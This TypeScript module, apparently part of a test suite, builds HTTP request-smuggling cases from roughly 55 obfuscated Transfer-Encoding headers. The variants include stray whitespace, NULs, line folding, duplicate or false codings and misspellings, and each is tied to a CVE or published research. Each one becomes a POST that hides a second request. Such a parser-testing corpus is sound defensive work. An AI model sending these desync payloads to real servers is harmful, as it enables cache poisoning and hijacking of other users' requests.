/** Transfer codings that one server reads and another does not (RFC 9112 section 6.1). */
import {
  casesOf,
  chunk,
  HIDDEN,
  LAST_CHUNK,
  lengthOf,
  post,
  type Row,
  type SmugglingCase,
} from "../smuggling-case.ts";

const DESYNC = "HTTP Desync Attacks (2019)";
const MUTATIONS = "smuggler's list of mutations (2020)";
const GARDEN = "HTTP Garden (2024)";

/** Read as chunks it hides a request; read by its length it does not. */
const BODY = `${LAST_CHUNK}${HIDDEN}`;
const mixed = (lines: string): string => post(`${lengthOf(BODY)}${lines}`, BODY);
/** Read as no body at all it is a request; read as chunks it is a chunk. */
const CHUNKS = `${chunk(HIDDEN)}${LAST_CHUNK}`;
const alone = (lines: string): string => post(lines, CHUNKS);

/** Each beside a length, and alone. */
const FORMS: readonly (readonly [name: string, source: string, lines: string])[] = [
  ["a space before the colon", "CVE-2019-16276", "Transfer-Encoding : chunked\r\n"],
  ["a tab before the colon", MUTATIONS, "Transfer-Encoding\t: chunked\r\n"],
  ["a tab after the colon", DESYNC, "Transfer-Encoding:\tchunked\r\n"],
  ["no space after the colon", MUTATIONS, "Transfer-Encoding:chunked\r\n"],
  ["a space before the name", "CVE-2020-7238", " Transfer-Encoding: chunked\r\n"],
  ["a tab before the name", "CVE-2024-27982", "\tTransfer-Encoding: chunked\r\n"],
  ["a vertical tab before the value", MUTATIONS, "Transfer-Encoding: \x0bchunked\r\n"],
  ["a form feed before the value", MUTATIONS, "Transfer-Encoding: \x0cchunked\r\n"],
  ["a NUL before the value", MUTATIONS, "Transfer-Encoding: \0chunked\r\n"],
  ["a NUL behind the value", MUTATIONS, "Transfer-Encoding: chunked\0\r\n"],
  ["a no-break space before the value", GARDEN, "Transfer-Encoding: \xa0chunked\r\n"],
  ["a byte beyond ASCII behind the value", MUTATIONS, "Transfer-Encoding: chunked\xff\r\n"],
  ["a delete behind the value", MUTATIONS, "Transfer-Encoding: chunked\x7f\r\n"],
  ["a carriage return before the value", "CVE-2023-30589", "Transfer-Encoding: \rchunked\r\n"],
  ["a carriage return behind the value", "CVE-2022-35256", "Transfer-Encoding: chunked\r\r\n"],
  ["a value on the next line", "CVE-2022-32215", "Transfer-Encoding:\r\n chunked\r\n"],
  ["a value on the next line, by a tab", "CVE-2022-32215", "Transfer-Encoding:\r\n\tchunked\r\n"],
  ["a list over two lines", "CVE-2022-32215", "Transfer-Encoding: identity,\r\n chunked\r\n"],
  ["a name over two lines", MUTATIONS, "Transfer\r\n -Encoding: chunked\r\n"],
  ["behind a bare line feed", DESYNC, "X-A: b\nTransfer-Encoding: chunked\r\n"],
  ["behind a bare carriage return", "CVE-2023-30589", "X-A: b\rTransfer-Encoding: chunked\r\n"],
  ["before a bare line feed", "CVE-2022-35256", "Transfer-Encoding: chunked\nX-A: b\r\n"],
  ["quoted", MUTATIONS, 'Transfer-Encoding: "chunked"\r\n'],
  ["in single quotes", MUTATIONS, "Transfer-Encoding: 'chunked'\r\n"],
  ["misspelt", DESYNC, "Transfer-Encoding: xchunked\r\n"],
  ["cut short", DESYNC, "Transfer-Encoding: chunke\r\n"],
  ["with a prefix", "CVE-2022-32213", "Transfer-Encoding: chunkedchunked\r\n"],
  ["two words", "CVE-2019-15605", "Transfer-Encoding: chunked x\r\n"],
  ["with a parameter", GARDEN, "Transfer-Encoding: chunked;q=1\r\n"],
  ["upper case", "RFC 9112 7", "Transfer-Encoding: CHUNKED\r\n"],
  ["mixed case", "RFC 9112 7", "tRANSFER-eNCODING: cHuNkEd\r\n"],
  ["a comma before", "CVE-2019-15605", "Transfer-Encoding: , chunked\r\n"],
  ["a comma behind", GARDEN, "Transfer-Encoding: chunked,\r\n"],
  ["twice in a list", GARDEN, "Transfer-Encoding: chunked, chunked\r\n"],
  ["twice", "CVE-2020-8287", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n"],
  [
    "a second, false one",
    "CVE-2020-8287",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n",
  ],
  ["a first, false one", DESYNC, "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked\r\n"],
  ["a second one, empty", GARDEN, "Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n"],
  ["identity first", "CVE-2019-16786", "Transfer-Encoding: identity, chunked\r\n"],
  ["identity at last", "CVE-2021-33037", "Transfer-Encoding: chunked, identity\r\n"],
  ["identity alone", "RFC 9112 7", "Transfer-Encoding: identity\r\n"],
  ["gzip first", "RFC 9112 7", "Transfer-Encoding: gzip, chunked\r\n"],
  ["gzip at last", "RFC 9112 6.3", "Transfer-Encoding: chunked, gzip\r\n"],
  ["gzip alone", "RFC 9112 6.3", "Transfer-Encoding: gzip\r\n"],
  ["empty", "CVE-2024-1135", "Transfer-Encoding:\r\n"],
  ["an underscore in the name", GARDEN, "Transfer_Encoding: chunked\r\n"],
  ["a name beyond ASCII", GARDEN, "Transfer-Encod\xefng: chunked\r\n"],
  ["a NUL in the name", "CVE-2021-43797", "Transfer-Encoding\0: chunked\r\n"],
  ["a control before the name", "CVE-2021-43797", "\x01Transfer-Encoding: chunked\r\n"],
  ["a line without a colon first", "CVE-2019-20444", "Transfer-Encoding\r\nX: y\r\n"],
  [
    "a line of nothing but a colon first",
    "CVE-2023-25725",
    ": x\r\nTransfer-Encoding: chunked\r\n",
  ],
  ["the TE field instead", "RFC 9110 10.1.4", "TE: chunked\r\n"],
  ["another field's name instead", MUTATIONS, "X-Transfer-Encoding: chunked\r\n"],
  ["Content-Encoding instead", MUTATIONS, "Content-Encoding: chunked\r\n"],
];

const beside: readonly Row[] = FORMS.map(([name, source, lines]) => [
  `${name}, beside a length`,
  source,
  mixed(lines),
]);
const lonely: readonly Row[] = FORMS.map(([name, source, lines]) => [
  `${name}, alone`,
  source,
  alone(lines),
]);

export const CODINGS: readonly SmugglingCase[] = casesOf("TE.TE", [...beside, ...lonely]);
